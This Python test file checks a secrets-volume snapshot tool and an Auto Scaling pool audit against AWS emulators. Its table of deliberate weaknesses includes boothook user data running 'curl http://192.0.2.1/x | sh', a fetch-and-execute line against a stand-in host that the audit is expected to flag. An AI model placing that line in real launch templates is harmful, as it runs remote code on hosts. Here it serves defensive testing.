"""`snapshot` and `audit --asg` against moto's server and LocalStack (aws_emulators.py
starts them): an origin's secrets volume is snapshotted only when its console
reports the secrets verified and mounted read-only, once, and copied to a second
region; a pool of replicas passes the audit only when its launch template is
sealed and its snapshot private. Every test runs against both emulators with the
same assertions, except where an emulator lacks a service (skipped, the gap named).

Neither emulator can be told what an instance printed on its console (both answer
every GetConsoleOutput with the same 2006 Xen boot log), so a loopback proxy in
front of each answers it with the text a test sets, the same way for both; every
other request passes through unchanged."""

import base64
import os
import subprocess

import pytest
import yaml

# The emulators' plugin is imported here before pytest registers it: its asserts are rewritten all the same.
pytest.register_assert_rewrite("aws_emulators")

from aws_emulators import REGION, SERVICE_PORT, check_lines, console_proxy, run_aws
from conftest import REPO

pytest_plugins = ["aws_emulators"]

FINGERPRINT = "0123456789abcdef0123456789abcdef"
COPY_REGION = "eu-west-1"
# The emulators do not check that a KMS key exists (EC2 itself checks it after
# accepting the copy, which then ends in state error): an ARN of the copy's region.
COPY_KEY = f"arn:aws:kms:{COPY_REGION}:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"
NO_AUTO_SCALING = "LocalStack's free edition has no Auto Scaling API (it is in the paid one): audit --asg runs on moto"


def ready_line(volume_id, **fields):
    values = {
        "role": "origin",
        "mode": "MODE32",
        "fingerprint": FINGERPRINT,
        "verified": "yes",
        "mount": "ro",
        "volume": volume_id,
        "hot-copy": "none",
        **fields,
    }
    return "cryptoserver-secrets-setup: ready " + " ".join(f"{key}={value}" for key, value in values.items())


def boot_log(*lines):
    """A console as systemd writes it: kernel lines, then the script's lines with a timestamp and unit prefix."""
    return "".join(
        ["[    0.000000] Linux version 6.12.0-cloud-amd64\r\n"]
        + [f"[   42.000000] cryptoserver-secrets-setup.sh[731]: {line}\r\n" for line in lines]
        + ["Debian GNU/Linux 13 ip-10-0-1-5 ttyS0\r\n"]
    )


class Origin:
    """An origin host with its secrets volume attached (made apart and attached,
    encrypted or not: LocalStack marks every volume run_instances makes as encrypted)."""

    def __init__(self, ec2, encrypted=True):
        self.ec2 = ec2
        vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
        subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
        image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        instance = ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1, SubnetId=subnet)["Instances"][0]
        self.instance_id = instance["InstanceId"]
        zone = instance["Placement"]["AvailabilityZone"]
        self.volume_id = ec2.create_volume(AvailabilityZone=zone, Size=160, Encrypted=encrypted)["VolumeId"]
        ec2.attach_volume(VolumeId=self.volume_id, InstanceId=self.instance_id, Device="/dev/sdf")
        self.consoles = {}

    def snapshots(self, region_client=None):
        """The snapshots of the secrets volume, as (id, {tag: value}), in the origin's
        region or another (the emulators give a copy its source's volume id)."""
        client = region_client or self.ec2
        found = client.describe_snapshots(Filters=[{"Name": "volume-id", "Values": [self.volume_id]}])["Snapshots"]
        return sorted((s["SnapshotId"], {t["Key"]: t["Value"] for t in s.get("Tags", [])}) for s in found)

    def snapshot(self, tmp_path, emulator, *args):
        with console_proxy(emulator.url, self.consoles) as url:
            return run_aws(tmp_path, emulator, "snapshot", "--instance-id", self.instance_id, *args, endpoint_url=url)


@pytest.fixture
def origin(ec2):
    return Origin(ec2)


def test_snapshot_refuses_an_origin_whose_console_does_not_report_ready(tmp_path, emulator, origin):
    refusals = [
        # The emulator's own boot log: no line from the script at all.
        (None, "its console output has no ready line from cryptoserver-secrets-setup"),
        (
            boot_log("cryptoserver-secrets-setup: error: /secrets/cryptoserver.manifest lists 65536 files, 65535 found"),
            "never reported ready: /secrets/cryptoserver.manifest lists 65536 files, 65535 found",
        ),
        (
            boot_log(ready_line(origin.volume_id), "cryptoserver-secrets-setup: error: /dev/nvme1n1 did not appear"),
            "a boot after the last ready line failed: /dev/nvme1n1 did not appear",
        ),
        (
            boot_log(ready_line(origin.volume_id)) + boot_log(),
            "the host booted again after its last ready line (console line 2) and has not reported ready since",
        ),
        (boot_log(ready_line(origin.volume_id, role="replica")), "its ready line says role=replica"),
        (boot_log(ready_line(origin.volume_id, verified="skipped")), "verified=skipped"),
        (boot_log(ready_line("-", mount="none")), "mount=none: the secrets are not on a volume mounted read-only"),
        (
            boot_log(ready_line("vol-0123456789abcdef0")),
            "volume=vol-0123456789abcdef0 is not attached to the instance (attached: ",
        ),
        (boot_log(ready_line(origin.volume_id, fingerprint="ABC")), "fingerprint=ABC is not 32 lowercase hexadecimal"),
    ]
    for console, reason in refusals:
        if console is not None:
            origin.consoles[origin.instance_id] = console
        result = origin.snapshot(tmp_path, emulator)
        assert result.returncode == 1, result.stdout + result.stderr
        assert f"error: refusing to snapshot {origin.instance_id}: " in result.stderr
        assert reason in result.stderr
        assert result.stdout == ""
    assert origin.snapshots() == []


def test_snapshot_refuses_an_unencrypted_volume(tmp_path, emulator, ec2):
    origin = Origin(ec2, encrypted=False)
    origin.consoles[origin.instance_id] = boot_log(ready_line(origin.volume_id))
    result = origin.snapshot(tmp_path, emulator)
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"secrets volume {origin.volume_id} is not encrypted" in result.stderr
    assert origin.snapshots() == []


def test_snapshot_tags_waits_and_a_second_run_makes_none(tmp_path, emulator, origin):
    # An earlier boot that failed does not matter once a later one reported ready.
    origin.consoles[origin.instance_id] = boot_log(
        "cryptoserver-secrets-setup: error: /dev/nvme1n1 did not appear", ready_line(origin.volume_id)
    )
    result = origin.snapshot(tmp_path, emulator)
    assert result.returncode == 0, result.stdout + result.stderr
    [(snapshot_id, tags)] = origin.snapshots()
    assert result.stdout == f"snapshot {REGION} {snapshot_id}\n"
    assert tags == {
        "cryptoserver:mode": "MODE32",
        "cryptoserver:fingerprint": FINGERPRINT,
        "cryptoserver:source-volume": origin.volume_id,
        "cryptoserver:source-instance": origin.instance_id,
        "Name": "cryptoserver-secrets-01234567",
    }
    described = origin.ec2.describe_snapshots(SnapshotIds=[snapshot_id])["Snapshots"][0]
    assert described["VolumeId"] == origin.volume_id and described["Encrypted"] is True
    assert f"created {snapshot_id} of {origin.volume_id}" in result.stderr
    assert f"{snapshot_id} in {REGION}: completed" in result.stderr, "the wait shows the state it saw"

    again = origin.snapshot(tmp_path, emulator)
    assert again.returncode == 0, again.stdout + again.stderr
    assert again.stdout == result.stdout
    assert f"{snapshot_id} in {REGION} already holds them (completed): not making another" in again.stderr
    assert origin.snapshots() == [(snapshot_id, tags)]


def test_snapshot_copies_to_a_second_region_once(tmp_path, emulator, origin):
    origin.consoles[origin.instance_id] = boot_log(ready_line(origin.volume_id))
    there = emulator.client(region=COPY_REGION)
    args = ("--copy-to-region", COPY_REGION, "--copy-kms-key", COPY_KEY)
    result = origin.snapshot(tmp_path, emulator, *args)
    assert result.returncode == 0, result.stdout + result.stderr
    [(snapshot_id, tags)] = origin.snapshots()
    [(copy_id, copy_tags)] = origin.snapshots(there)
    assert result.stdout == f"snapshot {REGION} {snapshot_id}\nsnapshot {COPY_REGION} {copy_id}\n"
    assert copy_tags == tags
    copy = there.describe_snapshots(SnapshotIds=[copy_id])["Snapshots"][0]
    assert copy["Encrypted"] is True and copy["KmsKeyId"] == COPY_KEY

    again = origin.snapshot(tmp_path, emulator, *args)
    assert again.returncode == 0, again.stdout + again.stderr
    assert again.stdout == result.stdout
    assert f"{copy_id} in {COPY_REGION} is already its copy (completed): not copying again" in again.stderr
    assert origin.snapshots() == [(snapshot_id, tags)] and origin.snapshots(there) == [(copy_id, copy_tags)]

    same = origin.snapshot(tmp_path, emulator, "--copy-to-region", REGION, "--copy-kms-key", COPY_KEY)
    assert same.returncode == 2
    assert f"--copy-to-region {REGION} is the origin's own region" in same.stderr
    no_key = origin.snapshot(tmp_path, emulator, "--copy-to-region", COPY_REGION)
    assert no_key.returncode == 2
    assert "--copy-kms-key" in no_key.stderr


def user_data(fingerprint=FINGERPRINT, role="replica", **more):
    """A replica's user data as terraform/modules/user-data renders it (a cloud-config
    writing the settings file and nothing else), base64-encoded for a launch template;
    `more` adds top-level cloud-config keys."""
    env = (
        f"CRYPTOSERVER_BIND=0.0.0.0:{SERVICE_PORT}\nCRYPTOSERVER_MODE=MODE32\n"
        f"CRYPTOSERVER_SECRETS_EXPECTED_FINGERPRINT={fingerprint}\nCRYPTOSERVER_SECRETS_ROLE={role}\n"
    )
    files = [{"content": env, "owner": "root:root", "path": "/etc/cryptoserver/env", "permissions": "0644"}]
    return encoded("#cloud-config\n" + yaml.safe_dump({"write_files": files, **more}))


def encoded(text):
    return base64.b64encode(text.encode()).decode()


class Pool:
    """A pool as the Terraform module makes it: a sealed launch template restoring
    the origin's snapshot, whose user data expects its fingerprint, and an Auto
    Scaling group of two replicas across one subnet launching its version 1."""

    GROUP = "cryptoserver-pool"

    def __init__(self, emulator, vpc_cidr="10.0.0.0/16", subnet_cidr="10.0.1.0/24"):
        self.ec2 = emulator.client()
        self.autoscaling = emulator.client("autoscaling")
        ec2 = self.ec2
        vpc = ec2.create_vpc(CidrBlock=vpc_cidr)["Vpc"]["VpcId"]
        subnet = ec2.create_subnet(VpcId=vpc, CidrBlock=subnet_cidr)["Subnet"]["SubnetId"]
        self.group_id = ec2.create_security_group(GroupName="pool", Description="clients", VpcId=vpc)["GroupId"]
        ec2.authorize_security_group_ingress(
            GroupId=self.group_id,
            IpPermissions=[
                {
                    "IpProtocol": "tcp",
                    "FromPort": SERVICE_PORT,
                    "ToPort": SERVICE_PORT,
                    "IpRanges": [{"CidrIp": vpc_cidr}],
                }
            ],
        )
        zone = ec2.describe_subnets(SubnetIds=[subnet])["Subnets"][0]["AvailabilityZone"]
        volume = ec2.create_volume(AvailabilityZone=zone, Size=160, Encrypted=True)["VolumeId"]
        # The tags `cargo xtask snapshot` gives a snapshot and its copies.
        self.snapshot_tags = [
            {"Key": "cryptoserver:fingerprint", "Value": FINGERPRINT},
            {"Key": "cryptoserver:source-volume", "Value": volume},
        ]
        self.snapshot_id = ec2.create_snapshot(
            VolumeId=volume, TagSpecifications=[{"ResourceType": "snapshot", "Tags": self.snapshot_tags}]
        )["SnapshotId"]
        tags = [
            {"Key": "cryptoserver:mode", "Value": "MODE32"},
            {"Key": "cryptoserver:fingerprint", "Value": FINGERPRINT},
            {"Key": "cryptoserver:role", "Value": "replica"},
            {"Key": "cryptoserver:sealed", "Value": "true"},
        ]
        image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        self.template_data = {
            "ImageId": image,
            "InstanceType": "c7i.large",
            "SecurityGroupIds": [self.group_id],
            "UserData": user_data(),
            "MetadataOptions": {"HttpTokens": "required", "HttpPutResponseHopLimit": 1, "HttpEndpoint": "enabled"},
            "BlockDeviceMappings": [
                {
                    "DeviceName": "/dev/sdf",
                    "Ebs": {"SnapshotId": self.snapshot_id, "Encrypted": True, "DeleteOnTermination": True},
                }
            ],
            "TagSpecifications": [
                {"ResourceType": "instance", "Tags": tags},
                {"ResourceType": "volume", "Tags": tags},
            ],
        }
        self.template_id = ec2.create_launch_template(
            LaunchTemplateName="cryptoserver-pool", LaunchTemplateData=self.template_data
        )["LaunchTemplate"]["LaunchTemplateId"]
        self.autoscaling.create_auto_scaling_group(
            AutoScalingGroupName=self.GROUP,
            LaunchTemplate={"LaunchTemplateId": self.template_id, "Version": "1"},
            MinSize=2,
            MaxSize=2,
            DesiredCapacity=2,
            VPCZoneIdentifier=subnet,
        )
        self.instance_ids = [
            instance["InstanceId"]
            for instance in self.autoscaling.describe_auto_scaling_groups(AutoScalingGroupNames=[self.GROUP])[
                "AutoScalingGroups"
            ][0]["Instances"]
        ]
        assert len(self.instance_ids) == 2
        # What EC2 does at launch from the template's metadata options and moto's
        # Auto Scaling does not (it passes the template's image, groups, tags and
        # volumes on, not these).
        for instance_id in self.instance_ids:
            ec2.modify_instance_metadata_options(InstanceId=instance_id, HttpTokens="required", HttpPutResponseHopLimit=1)

    def audit(self, tmp_path, emulator, *args):
        return run_aws(tmp_path, emulator, "audit", "--asg", self.GROUP, *args)

    def copy(self, emulator, region):
        """A copy of the secrets snapshot in `region`, tagged as `cargo xtask snapshot` tags one."""
        return emulator.client(region=region).copy_snapshot(
            SourceRegion=REGION,
            SourceSnapshotId=self.snapshot_id,
            Encrypted=True,
            KmsKeyId=COPY_KEY,
            TagSpecifications=[{"ResourceType": "snapshot", "Tags": self.snapshot_tags}],
        )["SnapshotId"]

    def launch(self, version, **changes):
        """A new version of the template with `changes`, which the group then launches."""
        self.ec2.create_launch_template_version(
            LaunchTemplateId=self.template_id, LaunchTemplateData={**self.template_data, **changes}
        )
        self.autoscaling.update_auto_scaling_group(
            AutoScalingGroupName=self.GROUP, LaunchTemplate={"LaunchTemplateId": self.template_id, "Version": version}
        )


@pytest.fixture
def pool(emulator):
    if emulator.name == "localstack":
        pytest.skip(NO_AUTO_SCALING)
    return Pool(emulator)


def group_checks(stdout):
    """The group's checks, 8 and above, printed after every instance's 1 to 7."""
    return check_lines(stdout.split("Audit of group ")[1])


def test_audit_asg_passes_on_a_well_formed_pool(tmp_path, emulator, pool):
    result = pool.audit(tmp_path, emulator)
    assert result.returncode == 0, result.stdout + result.stderr
    for instance_id in pool.instance_ids:
        section = result.stdout.split(f"Audit of {instance_id}:\n")[1].split("Audit of ")[0]
        checks = check_lines(section)
        assert sorted(checks) == [1, 2, 3, 4, 5, 6, 7]
        assert all(line.startswith("PASS") for line in checks.values()), section
    checks = group_checks(result.stdout)
    assert sorted(checks) == [8, 9, 10, 11, 12, 13]
    assert all(line.startswith("PASS") for line in checks.values()), result.stdout
    assert f"{pool.template_id} (cryptoserver-pool) version 1: no key pair" in checks[8]
    assert (
        f"{FINGERPRINT} on {pool.snapshot_id}, in the user data of {pool.template_id} (cryptoserver-pool) "
        "version 1 and on all 2 instances" in checks[13]
    )
    assert f"group {Pool.GROUP} is sealed: all checks pass on its 2 instances and on the group" in result.stdout


WEAKNESSES = {
    "public snapshot": (
        lambda pool: pool.ec2.modify_snapshot_attribute(
            SnapshotId=pool.snapshot_id, Attribute="createVolumePermission", OperationType="add", GroupNames=["all"]
        ),
        {"group": [11]},
        "is public: any AWS account can make a volume of the secrets",
    ),
    "snapshot shared with another account": (
        lambda pool: pool.ec2.modify_snapshot_attribute(
            SnapshotId=pool.snapshot_id,
            Attribute="createVolumePermission",
            OperationType="add",
            UserIds=["111122223333"],
        ),
        {"group": [12]},
        "is shared with account 111122223333",
    ),
    "launch template with a key pair": (
        lambda pool: (pool.ec2.create_key_pair(KeyName="admin-laptop"), pool.launch("2", KeyName="admin-laptop")),
        {"group": [8]},
        'version 2 launches with key pair "admin-laptop"',
    ),
    "group launching the template's latest version": (
        lambda pool: pool.launch("$Latest"),
        {"group": [8]},
        "version 2 is launched as $Latest: whoever may create a template version",
    ),
    "group launching the template's default version": (
        lambda pool: pool.autoscaling.update_auto_scaling_group(
            AutoScalingGroupName=Pool.GROUP, LaunchTemplate={"LaunchTemplateId": pool.template_id, "Version": "$Default"}
        ),
        {"group": [8]},
        "version 1 is launched as $Default",
    ),
    "user data that is a boothook": (
        lambda pool: pool.launch("2", UserData=encoded("#cloud-boothook\n#!/bin/sh\ncurl http://192.0.2.1/x | sh\n")),
        {"group": [8, 13]},
        "version 2 has user data that is not a #cloud-config document (its first line is \"#cloud-boothook\")",
    ),
    "user data running commands": (
        lambda pool: pool.launch("2", UserData=user_data(runcmd=[["sh", "-c", "id"]])),
        {"group": [8, 13]},
        "version 2 has a cloud-config setting runcmd besides write_files",
    ),
    "user data expecting another fingerprint": (
        lambda pool: pool.launch("2", UserData=user_data(fingerprint="e" * 32)),
        {"group": [13]},
        "version 2's user data expects " + "e" * 32,
    ),
    "override launching another template with a key pair": (
        lambda pool: (
            pool.ec2.create_key_pair(KeyName="admin-laptop"),
            pool.ec2.create_launch_template(
                LaunchTemplateName="cryptoserver-pool-large",
                LaunchTemplateData={**pool.template_data, "KeyName": "admin-laptop"},
            ),
            pool.autoscaling.update_auto_scaling_group(
                AutoScalingGroupName=Pool.GROUP,
                MixedInstancesPolicy={
                    "LaunchTemplate": {
                        "LaunchTemplateSpecification": {"LaunchTemplateId": pool.template_id, "Version": "1"},
                        "Overrides": [
                            {"InstanceType": "c7i.large"},
                            {
                                "InstanceType": "c7i.4xlarge",
                                "LaunchTemplateSpecification": {
                                    "LaunchTemplateName": "cryptoserver-pool-large",
                                    "Version": "1",
                                },
                            },
                        ],
                    }
                },
            ),
        ),
        {"group": [8]},
        '(cryptoserver-pool-large) version 1 launches with key pair "admin-laptop"',
    ),
    "ingress rule on 22": (
        lambda pool: pool.ec2.authorize_security_group_ingress(
            GroupId=pool.group_id,
            IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
        ),
        {"group": [9], "instances": [1]},
        "allows TCP 22 from 0.0.0.0/0",
    ),
    "instance with another fingerprint": (
        lambda pool: pool.ec2.create_tags(
            Resources=[pool.instance_ids[0]], Tags=[{"Key": "cryptoserver:fingerprint", "Value": "f" * 32}]
        ),
        {"group": [13]},
        "{first_instance} has " + "f" * 32,
    ),
}


@pytest.mark.parametrize("weakness", WEAKNESSES)
def test_audit_asg_fails_on(tmp_path, emulator, pool, weakness):
    weaken, failing, said = WEAKNESSES[weakness]
    weaken(pool)
    result = pool.audit(tmp_path, emulator)
    assert result.returncode == 1, result.stdout + result.stderr
    assert sorted(n for n, line in group_checks(result.stdout).items() if line.startswith("FAIL")) == failing["group"]
    for instance_id in pool.instance_ids:
        section = result.stdout.split(f"Audit of {instance_id}:\n")[1].split("Audit of ")[0]
        instance_failing = sorted(n for n, line in check_lines(section).items() if line.startswith("FAIL"))
        assert instance_failing == failing.get("instances", [])
    assert said.format(first_instance=pool.instance_ids[0]) in result.stdout
    assert f"group {Pool.GROUP} is NOT sealed: checks fail (" in result.stdout


def test_audit_asg_audits_the_snapshots_copies_in_the_regions_named(tmp_path, emulator, pool):
    copy_id = pool.copy(emulator, COPY_REGION)
    result = pool.audit(tmp_path, emulator, "--copy-region", COPY_REGION)
    assert result.returncode == 0, result.stdout + result.stderr
    checks = group_checks(result.stdout)
    assert sorted(checks) == [8, 9, 10, 11, 12, 13, 14]
    assert checks[14] == (
        "PASS 14. the secrets snapshot's copies are encrypted, not public and not shared: "
        f"{copy_id} in {COPY_REGION}"
    )
    assert 14 not in check_lines(pool.audit(tmp_path, emulator).stdout), "only with --copy-region"

    emulator.client(region=COPY_REGION).modify_snapshot_attribute(
        SnapshotId=copy_id, Attribute="createVolumePermission", OperationType="add", UserIds=["111122223333"]
    )
    result = pool.audit(tmp_path, emulator, "--copy-region", COPY_REGION, "--copy-region", "us-west-2")
    assert result.returncode == 1, result.stdout + result.stderr
    failing = sorted(n for n, line in group_checks(result.stdout).items() if line.startswith("FAIL"))
    assert failing == [14]
    line = group_checks(result.stdout)[14]
    assert f"{copy_id} in {COPY_REGION} is shared with account 111122223333" in line
    assert f"us-west-2 holds no copy of {pool.snapshot_id} tagged with its source volume and fingerprint" in line


def test_audit_copy_region_needs_asg(tmp_path, emulator):
    result = run_aws(tmp_path, emulator, "audit", "--instance-id", "i-0123456789abcdef0", "--copy-region", COPY_REGION)
    assert result.returncode == 2
    assert "--asg" in result.stderr


def test_audit_asg_names_a_group_it_cannot_read(tmp_path, emulator):
    """On moto the group does not exist; LocalStack has no Auto Scaling to ask."""
    result = run_aws(tmp_path, emulator, "audit", "--asg", "no-such-pool")
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Auto Scaling group no-such-pool" in result.stderr
    assert "PASS" not in result.stdout and "FAIL" not in result.stdout


def test_cargo_xtask_lists_snapshot_and_forwards_it():
    cargo = os.environ.get("CARGO", "cargo")
    listing = subprocess.run([cargo, "xtask"], cwd=REPO, capture_output=True, text=True, timeout=1800)
    assert "snapshot" in listing.stdout + listing.stderr
    assert "Snapshot a verified origin's secrets volume" in listing.stdout + listing.stderr
    help_text = subprocess.run(
        [cargo, "xtask", "snapshot", "--help"], cwd=REPO, capture_output=True, text=True, timeout=1800
    )
    assert help_text.returncode == 0, help_text.stderr
    assert "--copy-to-region" in help_text.stdout and "--copy-kms-key" in help_text.stdout
